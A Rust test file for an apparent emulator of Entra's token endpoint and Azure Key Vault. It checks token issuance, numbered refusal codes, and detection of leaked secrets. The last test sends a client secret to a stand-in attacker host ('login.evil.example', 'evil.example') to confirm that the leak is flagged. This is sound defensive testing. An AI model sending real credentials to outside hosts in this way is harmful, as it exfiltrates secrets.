//! Entra's side.

use std::time::Duration;

use akvfs_emulator::identity::Identity;
use akvfs_emulator::identity::TENANT;

use crate::client::Bench;
use crate::client::Reply;
use crate::client::read;

const FORM: &str = "application/x-www-form-urlencoded";
const SCOPE: &str = "https%3A%2F%2Fvault.azure.net%2F.default";
const JWT_BEARER: &str = "urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer";

async fn post(bench: &Bench, host: &str, tenant: &str, form: String) -> Reply {
    // The port is the listener's: resolve() gives it where the URL has none of its own.
    let url = format!("https://{host}/{tenant}/oauth2/v2.0/token");
    read(bench.http.post(url).header("content-type", FORM).body(form)).await
}

fn form(principal: &Identity, proof: &str) -> String {
    let id = &principal.client_id;
    format!("client_id={id}&scope={SCOPE}&grant_type=client_credentials&{proof}")
}

fn refused(reply: &Reply) -> (u16, String, u64) {
    let json = reply.json();
    let code = json["error"].as_str().unwrap().to_owned();
    (reply.status, code, json["error_codes"][0].as_u64().unwrap())
}

#[tokio::test]
async fn a_secret_is_worth_a_token_that_the_vault_takes() {
    let bench = Bench::new();
    bench.vault.put("ftpadmin", "s3cret");
    let entra = bench.emulator.entra();
    let principal = entra.register(1);
    entra.set_secret(&principal, "p/ss+word");
    entra.set_lifetime(Duration::from_secs(60));
    let host = "login.microsoftonline.com";

    let reply = post(&bench, host, TENANT, form(&principal, "client_secret=p%2Fss%2Bword")).await;

    let json = reply.json();
    assert_eq!((reply.status, json["expires_in"].as_u64()), (200, Some(60)));
    let token = json["access_token"].as_str().unwrap();
    let url = "https://my-vault.vault.azure.net/secrets/ftpadmin?api-version=7.4";
    assert_eq!(read(bench.http.get(url).bearer_auth(token)).await.status, 200);
    assert_eq!(bench.emulator.violations(), []);
    let recorded = bench.emulator.requests()[0].form.clone();
    let names: Vec<&str> = recorded.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["client_id", "scope", "grant_type", "client_secret"]);
    assert_eq!(recorded[3].1, "");
}

#[tokio::test]
async fn each_refusal_has_its_number() {
    let bench = Bench::new();
    let entra = bench.emulator.entra();
    let principal = entra.register(1);
    entra.set_secret(&principal, "word");
    let stranger = Identity::numbered(9);
    let right = "login.microsoftonline.com";
    let assertion = format!("client_assertion_type={JWT_BEARER}&client_assertion=a.b.c");
    for (host, tenant, form, refusal) in [
        (
            right,
            "00000000-0000-0000-0000-000000000000",
            form(&principal, "client_secret=word"),
            (400, "invalid_tenant", 90_002),
        ),
        (
            right,
            TENANT,
            form(&principal, "client_secret=wrong"),
            (401, "invalid_client", 7_000_215),
        ),
        (
            right,
            TENANT,
            form(&stranger, "client_secret=word"),
            (400, "unauthorized_client", 700_016),
        ),
        (right, TENANT, form(&principal, &assertion), (400, "invalid_request", 70_021)),
        (
            "login.microsoftonline.us",
            TENANT,
            form(&principal, "client_secret=word"),
            (400, "invalid_resource", 500_011),
        ),
    ] {
        let (status, code, number) = refusal;
        let reply = post(&bench, host, tenant, form).await;
        assert_eq!(refused(&reply), (status, code.to_owned(), number));
    }
}

#[tokio::test]
async fn a_proof_that_goes_elsewhere_is_noted() {
    let bench = Bench::new();
    let entra = bench.emulator.entra();
    let principal = entra.register(1);
    entra.set_secret(&principal, "p/ss+word");
    post(&bench, "login.evil.example", TENANT, form(&principal, "client_secret=p%2Fss%2Bword"))
        .await;
    let url = "https://evil.example/p/ss+word";
    read(bench.http.get(url)).await;
    let violations = bench.emulator.violations();
    let proofs = violations.iter().filter(|violation| violation.what.contains("a secret or"));
    assert_eq!(proofs.count(), 2, "{violations:?}");
}
